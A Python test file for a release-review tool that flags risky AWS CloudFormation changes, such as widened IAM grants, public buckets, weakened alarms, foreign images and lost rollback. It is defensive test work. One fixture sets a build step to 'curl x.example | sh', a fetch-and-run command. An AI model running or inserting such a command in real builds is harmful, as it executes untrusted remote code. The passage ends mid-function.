"""Changes that a review must judge: each with the line that it gets, or with no danger at all."""

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from release.review.access.grants import in_words
from release.review.comparison import Comparison
from release.review.dangers import dangers
from release.review.endpoint_changes import endpoint_changes
from release.review.money import cost_changes
from release.review.stack_changes import notes
from release.tree import Template
from tests.unit.release.review.edits import PROD, Edit, add, compared, drop, put, together
from tests.unit.release.review.resources import RESOURCES

OTHER = "999999999999"
TENSOR = '{"name": "VECTOR", "datatype": "FP32", "shape": [384]}'
ENTRY = (
    '{"model": "minilm", "version": "1", "signature": '
    f'{{"inputs": [], "outputs": [{TENSOR}], "max_batch_size": 1}}}}'
)


def arn(service: str, name: str, account: str = OTHER) -> str:
    return f"arn:aws:{service}:us-east-1:{account}:{name}"


def statement(action: Any, resource: Any = "*", **more: Any) -> dict[str, Any]:
    return {"Effect": "Allow", "Action": action, "Resource": resource, **more}


def schedule(name: str, when: str, least: int, zone: str = "UTC") -> dict[str, Any]:
    return {
        "ScheduledActionName": name,
        "Schedule": when,
        "Timezone": zone,
        "ScalableTargetAction": {"MinCapacity": least, "MaxCapacity": 10},
    }


def alarm(**properties: Any) -> dict[str, Any]:
    return {
        "Type": "AWS::CloudWatch::Alarm",
        "Properties": {
            "Namespace": "AWS/SageMaker",
            "ComparisonOperator": "GreaterThanThreshold",
            "EvaluationPeriods": 3,
            "DatapointsToAlarm": 2,
            "Period": 60,
            "MetricName": "ModelLatency",
            "Statistic": "Average",
            "Threshold": 1_000_000,
            "Dimensions": [{"Name": "VariantName", "Value": "AllTraffic"}],
            **properties,
        },
        "Metadata": {"aws:cdk:path": "prod-text/Latency/Resource"},
    }


def role(*statements: dict[str, Any]) -> dict[str, Any]:
    trust = {"Action": "sts:AssumeRole", "Principal": {"Service": "codebuild.amazonaws.com"}}
    return {
        "Type": "AWS::IAM::Role",
        "Properties": {
            "AssumeRolePolicyDocument": {"Statement": [{"Effect": "Allow", **trust}]},
            "Policies": [{"PolicyDocument": {"Statement": [*statements]}}],
        },
    }


def base() -> dict[str, Any]:
    """Return the resources of a stack that has what the changes below take away."""
    resources = copy.deepcopy(RESOURCES)
    endpoint = resources["Endpoint"]["Properties"]
    endpoint["DeploymentConfig"] = {
        "AutoRollbackConfiguration": {"Alarms": [{"AlarmName": {"Ref": "Latency"}}]},
        "BlueGreenUpdatePolicy": {
            "TerminationWaitInSeconds": 300,
            "TrafficRoutingConfiguration": {
                "Type": "CANARY",
                "CanarySize": {"Type": "CAPACITY_PERCENT", "Value": 10},
                "WaitIntervalInSeconds": 600,
            },
        },
    }
    resources["Config"]["Properties"]["DataCaptureConfig"] = {
        "EnableCapture": True,
        "InitialSamplingPercentage": 100,
        "CaptureOptions": [{"CaptureMode": "Input"}],
        "DestinationS3Uri": {"Fn::Join": ["", ["s3://", {"Ref": "Bucket"}, "/captured"]]},
        "KmsKeyId": {"Fn::GetAtt": ["Key", "Arn"]},
    }
    resources["Group"]["Properties"]["SecurityGroupEgress"] = [{"CidrIp": "10.0.0.0/16"}]
    resources["Model"]["Properties"]["VpcConfig"]["Subnets"] = ["a", "b"]
    resources["Entry"]["Properties"]["Value"] = ENTRY
    resources["Endpoint"]["DependsOn"] = ["Guard"]
    trust = resources["Unused"]["Properties"]["AssumeRolePolicyDocument"]["Statement"]
    trust["Condition"] = {"StringEquals": {"aws:SourceAccount": "111111111111"}}
    return resources | {
        "Key": {
            "Type": "AWS::KMS::Key",
            "Properties": {"KeyPolicy": {"Statement": [statement(
                "kms:Decrypt", Principal={"AWS": {"Fn::GetAtt": ["Role", "Arn"]}})]}},
        },
        "Gateway": {
            "Type": "AWS::EC2::VPCEndpoint",
            "Properties": {
                "VpcId": "vpc-1",
                "PolicyDocument": {"Statement": [statement(
                    "s3:GetObject", Principal="*")]},
            },
        },
        "Scaling": {
            "Type": "AWS::ApplicationAutoScaling::ScalableTarget",
            "Properties": {
                "MinCapacity": 2,
                "MaxCapacity": 10,
                "ResourceId": "endpoint/prod-text/variant/AllTraffic",
                "ScheduledActions": [
                    schedule("morning", "cron(0 6 ? * * *)", 6),
                    schedule("evening", "cron(0 18 ? * * *)", 2),
                ],
            },
        },
        "BuildRole": role(statement("s3:GetObject", "arn:aws:s3:::models/*")),
        "Build": {
            "Type": "AWS::CodeBuild::Project",
            "Properties": {
                "ServiceRole": {"Fn::GetAtt": ["BuildRole", "Arn"]},
                "Environment": {"Image": "public.ecr.aws/docker/library/python@sha256:1"},
                "Source": {"BuildSpec": "phases:\n  - make\n"},
            },
        },
        "Function": {
            "Type": "AWS::Lambda::Function",
            "Properties": {
                "Code": {"S3Bucket": "cdk-assets", "S3Key": "a.zip"},
                "Role": {"Fn::GetAtt": ["Unused", "Arn"]},
            },
        },
        "Latency": alarm(),
        "Topics": {
            "Type": "AWS::SNS::TopicPolicy",
            "Properties": {"Topics": [{"Ref": "Topic"}], "PolicyDocument": {"Statement": [
                statement("sns:Publish", Principal={"Service": "cloudwatch.amazonaws.com"}),
                {"Effect": "Deny", "Action": "sns:Publish", "NotResource": ["a"],
                 "Principal": "*"},
            ]}},
        },
        "Policies": {
            "Type": "AWS::ApplicationAutoScaling::ScalingPolicy",
            "Properties": {"TargetTrackingScalingPolicyConfiguration": {
                "TargetValue": 100, "ScaleOutCooldown": 60,
                "PredefinedMetricSpecification": {
                    "PredefinedMetricType": "SageMakerVariantInvocationsPerInstance"}}},
        },
        "Archive": {
            "Type": "Custom::TritonModel",
            "Properties": {"Bucket": {"Ref": "Bucket"}, "Model": "minilm", "Target": "cpu",
                           "Digest": "1"},
        },
        "Guard": {
            "Type": "Custom::TritonUpdateGuard",
            "Properties": {"Endpoint": "prod-text", "Archives": ["minilm-1.tar.gz"]},
        },
        "Check": {"Type": "Custom::TritonUpdateCheck", "Properties": {"Endpoint": "prod-text"}},
    }  # fmt: skip


def review(edit: Edit, **file: Any) -> tuple[list[str], str]:
    """Return rule and message of each danger, and all that is said beside them."""
    before, after = base(), base()
    edit(after)
    comparison = compared(before, after, will_be=PROD.model_copy(update=file))
    text = [
        *(endpoint.sentence for endpoint in endpoint_changes(comparison)),
        *notes(comparison),
        *map(str, cost_changes(comparison)),
    ]  # fmt: skip
    return [
        f"{item.rule}: {item.message} {item.details}" for item in dangers(comparison)
    ], "\n".join(text)


VARIANT = ("Config", "ProductionVariants", 0)
ROUTING = ("Endpoint", "DeploymentConfig", "BlueGreenUpdatePolicy", "TrafficRoutingConfiguration")
CAPTURE = ("Config", "DataCaptureConfig")
ACTIONS = ("Scaling", "ScheduledActions")
STATEMENT = ("Policy", "PolicyDocument", "Statement", 0)
RENAMED = together(
    drop("BuildRole"),
    add(Renamed=role(
        statement("s3:GetObject", "arn:aws:s3:::models/*"),
        statement(["s3:PutObject", "s3:DeleteObject"], "arn:aws:s3:::models/*"),
    )),
    put("Build", "ServiceRole", {"Fn::GetAtt": ["Renamed", "Arn"]}),
)  # fmt: skip
LINEAR = {
    "Type": "LINEAR",
    "LinearStepSize": {"Type": "CAPACITY_PERCENT", "Value": 50},
    "WaitIntervalInSeconds": 0,
}
REPLICA = {"Bucket": "arn:aws:s3:::theirs", "Account": OTHER}

DANGERS: dict[str, tuple[Edit, str]] = {
    # absent means what AWS takes for it
    "a VPC endpoint's policy is removed": (
        drop("Gateway", "PolicyDocument"),
        "public_exposure: anyone may * on Gateway",
    ),
    "a key's policy is removed": (
        drop("Key", "KeyPolicy"),
        "widened_access: arn:aws:iam::${AWS::AccountId}:root may now kms:* on Key",
    ),
    "a group's way out is no longer narrow": (
        drop("Group", "SecurityGroupEgress"),
        "internet_routes: AWS::EC2::SecurityGroup prod-text/Group: the security group lets "
        "traffic out to anywhere",
    ),
    # a role in another's place
    "a role is renamed, and may do more": (
        RENAMED,
        "widened_access: Renamed may now s3:DeleteObject, s3:PutObject on arn:aws:s3:::models/*",
    ),
    # what a policy means
    "all actions but some": (
        put(*STATEMENT, {"Effect": "Allow", "NotAction": "iam:*", "Resource": "*"}),
        "widened_access: Role may now everything but iam:* on *",
    ),
    "all resources but one": (
        put(*STATEMENT, {"Effect": "Allow", "Action": "s3:GetObject", "NotResource": "a"}),
        "widened_access: Role may now s3:GetObject on everything but a",
    ),
    "all principals but one": (
        put("Gateway", "PolicyDocument", "Statement", 0, {
            "Effect": "Allow", "Action": "s3:*", "Resource": "*",
            "NotPrincipal": {"AWS": arn("iam", "root")}}),
        "public_exposure: anyone may s3:* on Gateway",
    ),
    "a condition has another value": (
        put(*STATEMENT, "Condition", {"StringLike": {"s3:prefix": ["other/*"]}}),
        "widened_access: Role may now s3:GetObject, s3:ListBucket on Bucket: the condition "
        "changes: s3:prefix StringLike text/* -> s3:prefix StringLike other/*",
    ),
    "a condition has a value more": (
        put(*STATEMENT, "Condition", {"StringLike": {"s3:prefix": ["text/*", "other/*"]}}),
        "widened_access: Role may now",
    ),
    "a condition is removed": (
        drop(*STATEMENT, "Condition"),
        "on Bucket: the condition s3:prefix StringLike text/* is removed",
    ),
    "a denial is narrower": (
        put("BucketPolicy", "PolicyDocument", "Statement", 0, "Action", "s3:GetObject"),
        "widened_access: anyone is no longer forbidden to s3:* on Bucket",
    ),
    # amounts
    "a canary becomes steps without a wait": (
        put(*ROUTING, LINEAR),
        "lost_rollback: prod-text: traffic moves to new instances in 0 s, before 600 s: less than "
        "the 180 s that the rollback alarms look at",
    ),
    "a canary becomes a rolling update without a wait": (
        put("Endpoint", "DeploymentConfig", {
            "AutoRollbackConfiguration": {"Alarms": [{"AlarmName": {"Ref": "Latency"}}]},
            "RollingUpdatePolicy": {
                "MaximumBatchSize": {"Type": "CAPACITY_PERCENT", "Value": 50},
                "WaitIntervalInSeconds": 0,
            }}),
        "lost_rollback: prod-text: traffic moves to new instances in 0 s, before 600 s",
    ),
    "hardly anything is captured": (
        put(*CAPTURE, "InitialSamplingPercentage", 1),
        "lost_records: AWS::SageMaker::EndpointConfig prod-text/Config: requests are no longer "
        "captured: 100 % of requests -> 1 % of requests",
    ),
    "scaling is deleted": (
        drop("Scaling"),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "is no longer scaled: 2 instances, before 2 to 10",
    ),
    "a fleet may hardly grow": (
        together(put("Scaling", "MaxCapacity", 2), drop("Scaling", "ScheduledActions")),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "over a week: 2 to 10 (on average 4 to 10) -> 2 to 2 instances",
    ),
    "a zero too many": (
        together(put("Scaling", "MaxCapacity", 100), drop("Scaling", "ScheduledActions")),
        "multiplied_capacity: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: "
        "AllTraffic over a week: 2 to 10 (on average 4 to 10) -> 2 to 100",
    ),
    "a schedule that lowers, and nothing that raises": (
        put(*ACTIONS, 0, schedule("morning", "cron(0 12 ? * * *)", 2)),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: AllTraffic "
        "over a week: 2 to 10 (on average 4 to 10) -> 2 to 10 instances",
    ),
    "scaling out is suspended": (
        put("Scaling", "SuspendedState", {"DynamicScalingOutSuspended": True}),
        "lost_safeguards: AWS::ApplicationAutoScaling::ScalableTarget prod-text/Scaling: scaling "
        "is suspended: SuspendedState.DynamicScalingOutSuspended: none -> true",
    ),
    # access
    "a function runs as another role, which may do more": (
        put("Function", "Role", {"Fn::GetAtt": ["Role", "Arn"]}),
        "widened_access: AWS::Lambda::Function prod-text/Function: runs as another role, which may "
        "do more: Unused -> Role",
    ),
    "anyone may invoke a function by its address": (
        add(Url={"Type": "AWS::Lambda::Url", "Properties": {"AuthType": "NONE"}}),
        "public_exposure: AWS::Lambda::Url prod-text/Url: lets anyone invoke a function",
    ),
    # origins
    "an image of another account": (
        put("Model", "PrimaryContainer", "Image", f"{OTHER}.dkr.ecr.us-east-1.amazonaws.com/t:1"),
        "foreign_origins: AWS::SageMaker::Model prod-text/Model: PrimaryContainer.Image names the "
        f"account {OTHER}, which the stage did not name before",
    ),
    "an image of another registry": (
        put("Build", "Environment", "Image", "ghcr.io/somebody/python:3.11"),
        "Environment.Image names the registry ghcr.io/somebody",
    ),
    "an image of somebody else in the same registry": (
        put("Build", "Environment", "Image", "public.ecr.aws/somebody/python:3.11"),
        "Environment.Image names the registry public.ecr.aws/somebody",
    ),
    "a layer of another account": (
        put("Function", "Layers", [arn("lambda", "layer:x:1")]),
        "foreign_origins: AWS::Lambda::Function prod-text/Function: Layers names the account "
        f"{OTHER}",
    ),
    "a function's code out of another bucket": (
        put("Function", "Code", "S3Bucket", "theirs"),
        "Code.S3Bucket names the bucket theirs",
    ),
    "replication to another account": (
        put("Bucket", "ReplicationConfiguration", {"Rules": [{"Destination": REPLICA}]}),
        "new_recipients: AWS::S3::Bucket prod-text/Bucket: copies its objects to another bucket",
    ),
    "the account of a replica": (
        put("Bucket", "ReplicationConfiguration", {"Rules": [{"Destination": REPLICA}]}),
        f"Destination.Account names the account {OTHER}",
    ),
    "a log subscription": (
        add(Subscription={"Type": "AWS::Logs::SubscriptionFilter", "Properties": {
            "LogGroupName": {"Ref": "Log"}, "DestinationArn": arn("logs", "destination:x")}}),
        "new_recipients: AWS::Logs::SubscriptionFilter prod-text/Subscription: what is logged "
        "goes to another place, too",
    ),
    "the account of a log subscription": (
        add(Subscription={"Type": "AWS::Logs::SubscriptionFilter", "Properties": {
            "LogGroupName": {"Ref": "Log"}, "DestinationArn": arn("logs", "destination:x")}}),
        f"DestinationArn names the account {OTHER}",
    ),
    "captured requests go to another bucket": (
        put(*CAPTURE, "DestinationS3Uri", "s3://theirs/captured"),
        "DataCaptureConfig.DestinationS3Uri names the bucket theirs",
    ),
    "models out of another bucket": (
        put("Model", "PrimaryContainer", "ModelDataUrl", "s3://theirs/models/"),
        "PrimaryContainer.ModelDataUrl names the bucket theirs",
    ),
    "an alarm notifies another account": (
        put("Latency", "AlarmActions", [arn("sns", "topic")]),
        f"AlarmActions names the account {OTHER}",
    ),
    # who gets in, and what gets a copy
    "the internet in two halves": (
        put("Group", "SecurityGroupIngress", [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]),
        "public_exposure: AWS::EC2::SecurityGroup prod-text/Group: the security group lets the "
        "whole internet in",
    ),
    "a way out to the internet in two halves": (
        put("Group", "SecurityGroupEgress", [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]),
        "internet_routes: AWS::EC2::SecurityGroup prod-text/Group: the security group lets "
        "traffic out",
    ),
    "a shadow variant": (
        put("Config", "ShadowProductionVariants", [{
            "VariantName": "Shadow", "InstanceType": "ml.g5.xlarge", "InitialInstanceCount": 2,
            "ModelName": {"Fn::GetAtt": ["Model", "ModelName"]}}]),
        "new_recipients: AWS::SageMaker::EndpointConfig prod-text/Config: a copy of requests goes "
        "to the shadow variant Shadow on 2 ml.g5.xlarge",
    ),
    "people may log in": (
        put(*VARIANT, "EnableSSMAccess", True),
        "lost_safeguards: AWS::SageMaker::EndpointConfig prod-text/Config: people may log in to "
        "instances through Systems Manager: ProductionVariants.EnableSSMAccess of AllTraffic: "
        "none -> true",
    ),
    "a build runs what it downloads": (
        put("Build", "Source", "BuildSpec", "phases:\n  - make\n  - curl x.example | sh\n"),
        "build_downloads: AWS::CodeBuild::Project prod-text/Build: the build runs: - curl "
        "x.example | sh",
    ),
    "the guard is deleted": (
        drop("Guard"),
        "lost_safeguards: Custom::TritonUpdateGuard prod-text/Guard: the endpoint is updated "
        "without UpdateGuard",
    ),
    "the check is deleted": (
        drop("Check"),
        "lost_safeguards: Custom::TritonUpdateCheck prod-text/Check: the endpoint is updated "
        "without UpdateCheck",
    ),
    "an alarm's threshold, in the stage's units": (
        put("Latency", "Threshold", 5_000_000),
        "weakened_alarms: AWS::CloudWatch::Alarm prod-text/Latency: the alarm is weaker: "
        "threshold 1,000 ms -> 5,000 ms",
    ),
    "a longer period": (put("Latency", "Period", 300), "the alarm is weaker: period 60 s -> 300 s"),
    "more bad periods": (
        add(Latency=alarm(EvaluationPeriods=60, DatapointsToAlarm=60)),
        "the alarm is weaker: 2 bad periods of 3 -> 60 of 60",
    ),
    "fewer periods": (
        put("Latency", "EvaluationPeriods", 2),
        "the alarm is weaker: 2 bad periods of 3 -> 2 of 2",
    ),
    "missing data is ignored": (
        put("Latency", "TreatMissingData", "ignore"),
        "the alarm is weaker: missing data is missing -> ignore",
    ),
    "the other direction": (
        put("Latency", "ComparisonOperator", "LessThanThreshold"),
        "the alarm is weaker: GreaterThanThreshold -> LessThanThreshold",
    ),
    "another metric": (
        put("Latency", "MetricName", "Other"),
        "the alarm watches something else: MetricName: ModelLatency -> Other",
    ),
    "a condition that a request without the key meets, too": (
        put("Unused", "AssumeRolePolicyDocument", "Statement", "Condition",
            {"StringEqualsIfExists": {"aws:SourceAccount": "111111111111"}}),
        "widened_access: lambda.amazonaws.com may now sts:AssumeRole on Unused: the condition "
        "changes: aws:SourceAccount StringEquals 111111111111 -> aws:SourceAccount "
        "StringEqualsIfExists 111111111111",
    ),
    "a denial leaves one resource more out": (
        put("Topics", "PolicyDocument", "Statement", 1, "NotResource", ["a", "b"]),
        "widened_access: anyone is no longer forbidden to sns:Publish on b",
    ),
    "a service may not use what it used": (
        drop("Topics", "PolicyDocument", "Statement", 0),
        "lost_service_access: cloudwatch.amazonaws.com may no longer sns:Publish on Topic",
    ),
    "one address of the internet is let in": (
        put("Group", "SecurityGroupIngress", [{"CidrIp": "8.8.8.8/32"}, {"CidrIp": "10.0.0.0/8"}]),
        "public_exposure: AWS::EC2::SecurityGroup prod-text/Group: the security group lets in "
        "8.8.8.8/32 of the internet",
    ),
    "one zone alone": (
        put("Model", "VpcConfig", "Subnets", ["a"]),
        "low_minimum: AWS::SageMaker::Model prod-text/Model: the instances are in one zone alone: "
        "VpcConfig.Subnets: a, b -> a",
    ),
    "an image without its digest": (
        put("Build", "Environment", "Image", "public.ecr.aws/docker/library/python:latest"),
        "lost_pins: AWS::CodeBuild::Project prod-text/Build: builds in any image of a tag: "
        "Environment.Image: public.ecr.aws/docker/library/python@sha256:1 -> "
        "public.ecr.aws/docker/library/python:latest",
    ),
    "packages without their hashes": (
        put("Build", "Source", "BuildSpec", "phases:\n  - pip install --requirement r.txt\n"),
        "build_downloads: AWS::CodeBuild::Project prod-text/Build: the build runs: - pip install",
    ),
    "builds that are not logged": (
        put("Build", "LogsConfig", {"CloudWatchLogs": {"Status": "DISABLED"}}),
        "lost_records: AWS::CodeBuild::Project prod-text/Build: builds are no longer logged: "
        "LogsConfig.CloudWatchLogs.Status: none -> DISABLED",
    ),
    "a key that AWS manages": (
        put("Topic", "KmsMasterKeyId", "alias/aws/sns"),
        "encryption_removed: AWS::SNS::Topic prod-text/Topic: loses the encryption with its key: "
        "KmsMasterKeyId: Key -> alias/aws/sns",
    ),
    "a bucket that anyone may read": (
        put("Bucket", "AccessControl", "PublicRead"),
        "public_exposure: AWS::S3::Bucket prod-text/Bucket: lets anyone read the bucket",
    ),
    "earlier versions of objects are deleted": (
        put("Bucket", "LifecycleConfiguration", {"Rules": [
            {"Status": "Enabled", "NoncurrentVersionExpiration": {"NoncurrentDays": 1}}]}),
        "expiring_objects: AWS::S3::Bucket prod-text/Bucket: objects (all) are deleted as earlier "
        "versions 1 days after",
    ),
    "a function that cannot run": (
        put("Function", "ReservedConcurrentExecutions", 0),
        "lost_safeguards: AWS::Lambda::Function prod-text/Function: can no longer run",
    ),
    "models out of another bucket, by its name": (
        put("Archive", "Bucket", "theirs"),
        "foreign_origins: Custom::TritonModel prod-text/Archive: Bucket names the bucket theirs",
    ),
    "an index of packages": (
        put("Build", "Environment", "EnvironmentVariables", [
            {"Name": "PIP_EXTRA_INDEX_URL", "Value": "https://pypi.example.com/simple"}]),
        "Environment.EnvironmentVariables.PIP_EXTRA_INDEX_URL.Value names the host "
        "pypi.example.com",
    ),
    "the endpoint does not wait for its guard": (
        lambda resources: resources["Endpoint"].update(DependsOn=[]),
        "lost_safeguards: prod-text: DependsOn: Guard gone",
    ),
    "the guard looks for no archive": (
        put("Guard", "Archives", []),
        "lost_safeguards: Custom::TritonUpdateGuard prod-text/Guard: updates no longer wait for "
        "the archives of minilm",
    ),
    "clients ask for an output that is gone": (
        put("Entry", "Value", ENTRY.replace('"VECTOR"', '"OTHER"')),
        "broken_clients: clients of minilm on prod-text fail: output VECTOR is gone",
    ),
    "steps in which a variant hardly grows": (
        put("Policies", "TargetTrackingScalingPolicyConfiguration", "ScaleOutCooldown", 7200),
        "lost_scaling: AWS::ApplicationAutoScaling::ScalingPolicy prod-text/Policies: "
        "ScaleOutCooldown of InvocationsPerInstance: 60 -> 7200 s",
    ),
    "a network reaches another service": (
        add(More={"Type": "AWS::EC2::VPCEndpoint", "Properties": {
            "ServiceName": "com.amazonaws.us-east-1.dynamodb"}}),
        "internet_routes: AWS::EC2::VPCEndpoint prod-text/More: the network reaches "
        "com.amazonaws.us-east-1.dynamodb, in any account: it has no policy",
    ),
    "credentials that do not expire": (
        add(Access={"Type": "AWS::IAM::AccessKey", "Properties": {"UserName": "ci"}}),
        "lost_safeguards: AWS::IAM::AccessKey prod-text/Access: gives somebody credentials that",
    ),
    "a mean in place of the maximum": (
        put("Latency", "Statistic", "Minimum"),
        "the alarm is weaker: Average -> Minimum",
    ),
}  # fmt: skip


@pytest.mark.parametrize("change", DANGERS)
def test_a_dangerous_change_is_a_danger_with_its_line(change: str) -> None:
    edit, line = DANGERS[change]
    messages, _ = review(edit)
    assert [message for message in messages if line in message], messages


NOTED: dict[str, tuple[Edit, str]] = {
    "a schedule's time zone": (
        put(*ACTIONS, 0, "Timezone", "Asia/Tokyo"),
        "ScheduledActions.Timezone of morning: UTC -> Asia/Tokyo",
    ),
    "a schedule that lowers is removed": (
        drop(*ACTIONS, 1),
        "AllTraffic over a week: 2 to 10 (on average 4 to 10) -> 6 to 10 instances",
    ),
    "and what it costs": (drop(*ACTIONS, 1), f"minimum={6 * 1.4 * 730}"),
    "a limit between schedules": (
        put("Scaling", "MinCapacity", 3),
        "MinCapacity between schedules: 2 -> 3",
    ),
    "an update strategy": (
        put(*ROUTING, "WaitIntervalInSeconds", 900),
        "later updates: canary 10 % for 600 s, old instances stay 300 s -> canary 10 % for 900 s, "
        "old instances stay 300 s",
    ),
    "a stricter threshold": (
        put("Latency", "Threshold", 500_000),
        "stricter: threshold 1,000 ms -> 500 ms",
    ),
    "commands of a build": (
        put("Build", "Source", "BuildSpec", "phases:\n  - make all\n"),
        "the build runs: - make all",
    ),
    "access that goes": (
        put(*STATEMENT, "Action", ["s3:GetObject"]),
        "Role may no longer s3:ListBucket on Bucket",
    ),
    "data capture": (
        put(*CAPTURE, "InitialSamplingPercentage", 50),
        "data capture: 100 % of requests -> 50 % of requests",
    ),
    "an older release": (
        put("Model", "PrimaryContainer", "Image", "tritonserver:24.01-py3"),
        "Triton 25.09 -> 24.01, an older release",
    ),
    "a variable of a build": (
        put("Build", "Environment", "EnvironmentVariables", [{"Name": "JOBS", "Value": "2"}]),
        "variable JOBS: none -> 2",
    ),
    "somebody else who is notified": (
        add(Mail={"Type": "AWS::SNS::Subscription", "Properties": {
            "Protocol": "email", "Endpoint": "b@example.com", "TopicArn": {"Ref": "Topic"}}}),
        "email b@example.com is notified of Topic",
    ),
    "a budget": (lambda _: None, "max_monthly_usd none -> 90,000"),
}  # fmt: skip


@pytest.mark.parametrize("change", NOTED)
def test_a_change_without_a_danger_is_told(change: str) -> None:
    edit, line = NOTED[change]
    messages, text = review(edit, max_monthly_usd=90_000)
    assert messages == []
    assert line in text


HARMLESS: dict[str, Edit] = {
    **{
        f"stricter: {properties}": add(Latency=alarm(**properties))
        for properties in (
            {"Threshold": 500_000},
            {"DatapointsToAlarm": 1},
            {"DatapointsToAlarm": 1, "EvaluationPeriods": 2},
            {"DatapointsToAlarm": 1, "EvaluationPeriods": 1},
            {"EvaluationPeriods": 5},
            {"Period": 10},
            {"TreatMissingData": "breaching"},
            {"Statistic": "Maximum"},
            {"ComparisonOperator": "GreaterThanOrEqualToThreshold"},
        )
    },
    "a role is renamed, and may do the same": together(
        drop("BuildRole"),
        add(Renamed=role(statement("s3:GetObject", "arn:aws:s3:::models/*"))),
        put("Build", "ServiceRole", {"Fn::GetAtt": ["Renamed", "Arn"]}),
    ),
    "a condition more": put(*STATEMENT, "Condition", "Bool", {"aws:SecureTransport": "true"}),
    "a condition's value less": put(
        *STATEMENT, "Condition", {"StringLike": {"s3:prefix": "text/a"}}),
    "an action in other letters": put(*STATEMENT, "Action", ["S3:getobject", "s3:ListBucket"]),
    "a denial of more": put("BucketPolicy", "PolicyDocument", "Statement", 0, "Action", "*"),
    "a denial without its condition": drop(
        "BucketPolicy", "PolicyDocument", "Statement", 0, "Condition"),
    "statements in another order": put("BuildRole", "Policies", 0, "PolicyDocument", "Statement", [
        statement("s3:GetObject", "arn:aws:s3:::models/*"),
        statement("s3:GetObject", "arn:aws:s3:::models/a"),
    ]),
    "a VPC endpoint's policy is narrower": put(
        "Gateway", "PolicyDocument", "Statement", 0, "Resource", "arn:aws:s3:::models/*"),
    "a network of ours is let in": put("Group", "SecurityGroupIngress", [
        {"CidrIp": "10.0.0.0/8"}, {"CidrIp": "172.16.0.0/12"}]),
    "a slower canary": put(*ROUTING, "WaitIntervalInSeconds", 1200),
    "a canary of more": put(*ROUTING, "CanarySize", "Value", 20),
    "in steps, with time": put(*ROUTING, {**LINEAR, "WaitIntervalInSeconds": 300}),
    "half is captured": put(*CAPTURE, "InitialSamplingPercentage", 50),
    "responses are captured, too": put(*CAPTURE, "CaptureOptions", [
        {"CaptureMode": "Input"}, {"CaptureMode": "Output"}]),
    "larger instances": put(*VARIANT, "VolumeSizeInGB", 100),
    "more instances": put("Scaling", "MaxCapacity", 12),
    "another hour": put(*ACTIONS, 0, "Schedule", "cron(0 7 ? * * *)"),
    "on weekdays": put(*ACTIONS, 0, "Schedule", "cron(0 6 ? * MON-FRI *)"),
    "another tag of the same image": put(
        "Build", "Environment", "Image", "public.ecr.aws/docker/library/python@sha256:2"),
    "the stage's own account": put(
        "Latency", "AlarmActions", [arn("sns", "topic", account="111111111111")]),
    "a variable": put("Model", "PrimaryContainer", "Environment", {"THREADS": "2"}),
    "a longer retention": put("Log", "RetentionInDays", 365),
    "a tag": put("Bucket", "Tags", [{"Key": "team", "Value": "search"}]),
    "a description": put("Latency", "AlarmDescription", "it is slow"),
    "a role that may do less": put("Build", "ServiceRole", {"Fn::GetAtt": ["Unused", "Arn"]}),
    "a topic": add(More={"Type": "AWS::SNS::Topic", "Properties": {}}),
    "other code of a function": put("Function", "Code", "S3Key", "b.zip"),
    "a timeout": put("Function", "Timeout", 30),
    "a build's command": put("Build", "Source", "BuildSpec", "phases:\n  - make all\n"),
    "an alarm that rolls back is renamed": together(
        lambda resources: resources.update(NewLatency=resources.pop("Latency")),
        put("Endpoint", "DeploymentConfig", "AutoRollbackConfiguration", "Alarms",
            [{"AlarmName": {"Ref": "NewLatency"}}]),
    ),
    "steps without a wait": put(
        "Policies", "TargetTrackingScalingPolicyConfiguration", "ScaleOutCooldown", 0),
    "a scalable target is renamed": lambda resources: resources.update(
        NewScaling=resources.pop("Scaling")),
    "a topic lets fewer alarms publish": put(
        "Topics", "PolicyDocument", "Statement", 0, "Condition",
        {"StringEquals": {"aws:SourceAccount": "111111111111"}}),
    "a pattern for a value of its own": put(
        *STATEMENT, "Condition", {"StringEquals": {"s3:prefix": "text/a"}}),
    "another name of an alarm": put("Latency", "AlarmName", "slow"),
    "an instance less": put(*VARIANT, "InitialInstanceCount", 3),
    "a role that is new and may do little": add(
        New=role(statement("s3:GetObject", "arn:aws:s3:::m/*"))),
}  # fmt: skip


@pytest.mark.parametrize("change", HARMLESS)
def test_a_harmless_change_is_no_danger(change: str) -> None:
    before = base()
    after = base()
    HARMLESS[change](after)
    assert json.dumps(before) != json.dumps(after)
    assert review(HARMLESS[change])[0] == []


def test_captured_requests_that_are_no_longer_kept_lose_no_key() -> None:
    """The key goes with the capture that it was for: one danger."""
    (danger,) = review(drop("Config", "DataCaptureConfig"))[0]
    assert danger.startswith("lost_records")


def test_a_role_that_writes_what_its_endpoint_captures_is_no_danger() -> None:
    before, after = base(), base()
    del before["Config"]["Properties"]["DataCaptureConfig"]
    document = after["Policy"]["Properties"]["PolicyDocument"]
    captured = {"Fn::Join": ["", [{"Fn::GetAtt": ["Bucket", "Arn"]}, "/captured/*"]]}
    key = {"Fn::GetAtt": ["Key", "Arn"]}
    document["Statement"] += [
        statement("s3:PutObject", captured),
        statement(["kms:Decrypt", "kms:GenerateDataKey"], key),
    ]
    assert dangers(compared(before, after)) == []


def test_a_group_of_a_new_network_without_a_way_out_reaches_nothing() -> None:
    group = copy.deepcopy(RESOURCES["Group"])
    group["Properties"] |= {
        "SecurityGroupEgress": [{"CidrIp": "0.0.0.0/0"}],
        "VpcId": {"Ref": "Vpc"},
    }
    network = {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {}}, "Group": group}
    after: dict[str, Template] = {"prod-network": {"Resources": network}}
    assert dangers(Comparison("prod", {}, after, PROD, PROD)) == []
    gateway = {"Nat": {"Type": "AWS::EC2::NatGateway", "Properties": {}}}
    after = {"prod-network": {"Resources": network | gateway}}
    assert len(dangers(Comparison("prod", {}, after, PROD, PROD))) == 2


def test_the_same_change_of_several_endpoints_is_one_danger() -> None:
    def stacks(seconds: int) -> dict[str, Template]:
        stacks_by_name: dict[str, Template] = {}
        for name in ("prod-a", "prod-b", "prod-c"):
            resources = base()
            put("Endpoint", "EndpointName", name)(resources)
            put(*ROUTING, "WaitIntervalInSeconds", seconds)(resources)
